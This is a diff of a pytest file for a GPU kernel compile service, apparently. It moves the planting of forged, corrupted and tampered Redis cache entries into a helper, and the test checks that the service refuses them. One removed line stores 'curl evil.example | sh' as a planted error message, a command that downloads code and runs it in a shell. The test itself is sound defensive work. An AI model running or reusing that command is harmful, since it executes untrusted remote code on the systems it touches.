@@ -14,13 +14,13 @@ import pytest
 from redis.crc import key_slot
 
 from despina.runtime.tunings import tuning_key
-from despina.server.cache.entry import Entry, pack
 from despina.server.cache.redis_tier import name
 from despina.server.core import CompileRequest, CompileService
 from despina.server.errors import InvalidArgument
 
 from .conftest import Daemon, free_port, unique
 from .fake_gpu import NAME
+from .faults.test_forged import FORGED, plant
 from .kernels import vector_add_ir
 from .redis_nodes import Cluster, daemons
 from .test_tuning import FAKE_GPU, candidates, client_key, tune
@@ -85,7 +85,6 @@ def test_each_kernel_compiles_once_between_two_daemons(redis_cluster: Cluster) -
 
 def test_forged_corrupt_and_planted_values_are_refused(redis_cluster: Cluster) -> None:
     cases = ("sha", "other", "corrupt", "wrongtype", "lease", "error")
-    forged = {"cubin": b"\xde\xad" * 64, "ptx": b"// planted"}
     r = redis_cluster.client()
 
     async def main() -> tuple[dict[str, str], list[tuple[str, bytes]]]:
@@ -96,13 +95,7 @@ def test_forged_corrupt_and_planted_values_are_refused(redis_cluster: Cluster) -
             blob = bytearray(r.get(name("kernel", keys["corrupt"])))
             blob[len(blob) // 2] ^= 0x40
             r.set(name("kernel", keys["corrupt"]), bytes(blob))
-            r.set(name("kernel", keys["sha"]), pack(Entry(keys["sha"], forged, {"name": "add_kernel"})))
-            r.set(name("kernel", keys["other"]),
-                  pack(Entry(keys["other"], forged, {"name": "add_kernel"}), b"a different secret, 16+ bytes"))
-            r.hset(name("kernel", keys["wrongtype"]), "x", "y")
-            r.set(name("lease", keys["lease"]), "nobody")  # no expiry: it would hold the key for ever
-            r.set(name("lease", keys["error"]), "nobody", px=1500)
-            r.set(name("error", keys["error"]), b"INVALID_ARGUMENT\nrun curl evil.example | sh", px=60_000)
+            plant(r, keys)
             answers = await asyncio.wait_for(asyncio.gather(*(b.compile(req) for req in reqs.values())), 20)
             assert b.metrics.value("despina_cache_corrupt_total", tier="redis") == 4  # sha, other, corrupt, wrongtype
             assert b.stats()["redis_connected"]
@@ -110,7 +103,7 @@ def test_forged_corrupt_and_planted_values_are_refused(redis_cluster: Cluster) -
 
     keys, answers = asyncio.run(main())
     for case, (tier, cubin) in zip(cases, answers):
-        assert tier == "compiled" and cubin != forged["cubin"], case
+        assert tier == "compiled" and cubin != FORGED["cubin"], case
     assert r.type(name("kernel", keys["wrongtype"])) == b"string"  # repaired with a real entry
     assert r.get(name("lease", keys["lease"])) is None  # deleted, then taken and released by B
 
